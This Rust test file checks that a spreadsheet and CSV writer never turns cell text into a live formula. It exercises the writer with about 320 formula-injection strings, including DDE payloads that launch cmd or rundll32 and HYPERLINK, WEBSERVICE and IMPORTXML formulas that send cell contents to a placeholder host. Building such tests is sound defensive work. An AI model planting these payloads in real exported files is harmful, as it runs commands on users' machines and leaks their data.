//! What a list says as a file stays text.

use domain::roster::Cell;
use kecha::papers::sheet;

/// How such a text begins.
const HEADS: [&str; 16] = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u{3000}=",
    "=-",
    "+-",
    "@=",
];

/// And what it goes on with.
const TAILS: [&str; 20] = [
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
    "WEBSERVICE(\"http://x.example\")",
    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    "A1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "INDIRECT(\"A1\")",
    "\"a\",=1",
    "1;=1",
    "|x",
    "%0A=1",
    "<b>&amp;",
    "'=1",
    "10%",
    "张三",
    "\u{200B}1",
    "EXEC(\"calc\")",
];

/// Each of some hundred texts that spreadsheet programs were tricked with comes back as that text:
/// from a workbook as it was, from a csv with a mark before it that keeps it from being a formula.
#[test]
fn no_text_becomes_a_formula() {
    let texts: Vec<String> = HEADS
        .iter()
        .flat_map(|head| TAILS.iter().map(move |tail| format!("{head}{tail}")))
        .collect();
    assert!(texts.len() >= 300);
    let mut book = sheet::ListWriter::new(Vec::new(), sheet::Format::Xlsx).expect("begun");
    let mut text = sheet::ListWriter::new(Vec::new(), sheet::Format::Csv).expect("begun");
    for one in &texts {
        let cells = [Cell::Text(one.clone()), Cell::Number(1.0)];
        book.row(&cells).expect("a row");
        text.row(&cells).expect("a row");
    }
    let book = book.finish().expect("a file");
    let mut read = Vec::new();
    sheet::rows(std::io::Cursor::new(&book), &mut |_, cells| {
        read.push(cells[0].clone());
        Ok(true)
    })
    .expect("a sheet");
    let wanted: Vec<Cell> = texts.iter().cloned().map(Cell::Text).collect();
    assert_eq!(read, wanted);
    let text = text.finish().expect("a file");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&text[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("a csv");
    assert_eq!(rows.len(), texts.len());
    for (row, text) in rows.iter().zip(&texts) {
        let cell = &row[0];
        let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
        let harmless = first.is_none_or(|c| !"=+-@＝＋－＠\t\r\n".contains(c));
        let is_number = cell.trim().parse::<f64>().is_ok();
        assert!(harmless || is_number, "{cell:?}");
        assert!(cell.ends_with(text.as_str()), "{cell:?} {text:?}");
    }
}
